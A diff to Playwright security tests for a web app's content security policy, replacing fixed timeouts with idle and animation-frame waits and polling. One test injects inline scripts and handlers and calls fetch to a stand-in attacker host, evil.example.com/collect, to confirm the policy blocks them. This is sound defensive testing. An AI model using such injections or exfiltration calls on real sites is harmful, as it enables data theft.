@@ -59,7 +59,7 @@ async function openEverything(page: Page, where: string): Promise<number> {
     const name = (await button.textContent({ timeout: 300 }).catch(() => "")) || "";
     if (/sync|run now|log out|download|copy|english|italiano/i.test(name)) continue;
     await button.click({ timeout: 300 }).catch(() => {});
-    await page.waitForTimeout(100);
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
     opened += await page.locator("[role=dialog], [role=alertdialog], [role=menu], [role=listbox]").count();
     await page.keyboard.press("Escape");
     if (new URL(page.url()).pathname !== where) await page.goto(`${product.url}${where}`);
@@ -91,6 +91,21 @@ test("no page violates its content security policy, whatever is opened on it", a
   expect(opened, "dialogs and menus were opened").toBeGreaterThan(3);
 });
 
+/** Waits until the page has nothing left to do: Redoc builds its search index in many short turns. */
+const untilIdle = (page: Page) =>
+  page.evaluate(
+    () =>
+      new Promise<void>((resolve) => {
+        let quiet = 0;
+        const look = (deadline: IdleDeadline) => {
+          quiet = deadline.timeRemaining() > 40 ? quiet + 1 : 0;
+          if (quiet === 10) resolve();
+          else requestIdleCallback(look);
+        };
+        requestIdleCallback(look);
+      }),
+  );
+
 for (const { where, sign } of [
   { where: "/docs", sign: "/api/v1/usage/export" },
   { where: "/redoc", sign: "/api/auth/register" },
@@ -101,6 +116,7 @@ for (const { where, sign } of [
     await expect(page.locator(`#api :text("${sign}"):visible`).first()).toBeVisible({ timeout: 30_000 });
     for (const it of (await page.locator(".opblock-summary, #api [role=menuitem]").all()).slice(0, 4))
       await it.click({ timeout: 300 }).catch(() => {});
+    await untilIdle(page);
     expect(broken).toEqual([]);
     const styled = await page.evaluate(() =>
       [...document.styleSheets].reduce((sum, { cssRules }) => sum + cssRules.length, 0),
@@ -110,8 +126,9 @@ for (const { where, sign } of [
 
 test("injected inline scripts, handlers, styles, frames and foreign files are blocked", async ({ page }) => {
   await page.goto(`${product.url}/login`);
-  const directives = await page.evaluate(async () => {
+  await page.evaluate(async () => {
     const seen: string[] = [];
+    Object.assign(globalThis, { seen });
     addEventListener("securitypolicyviolation", ({ effectiveDirective }) => seen.push(effectiveDirective));
     const div = document.createElement("div");
     div.innerHTML =
@@ -127,10 +144,8 @@ test("injected inline scripts, handlers, styles, frames and foreign files are bl
     (document.getElementById("link") as HTMLAnchorElement).click();
     await fetch("https://evil.example.com/collect").catch(() => {});
     setTimeout("globalThis.ran=1", 0);
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    return { ran: (globalThis as { ran?: number }).ran ?? 0, seen: [...new Set(seen)] };
   });
-  expect(directives.ran).toBe(0);
+  const seen = () => page.evaluate(() => (globalThis as unknown as { seen: string[] }).seen);
   for (const name of [
     "script-src-elem",
     "script-src-attr",
@@ -140,7 +155,8 @@ test("injected inline scripts, handlers, styles, frames and foreign files are bl
     "connect-src",
     "base-uri",
   ])
-    expect(directives.seen, name).toContain(name);
+    await expect.poll(seen, name).toContain(name);
+  expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);
 });
 
 test("no other page can embed orwatch in a frame", async ({ page }) => {
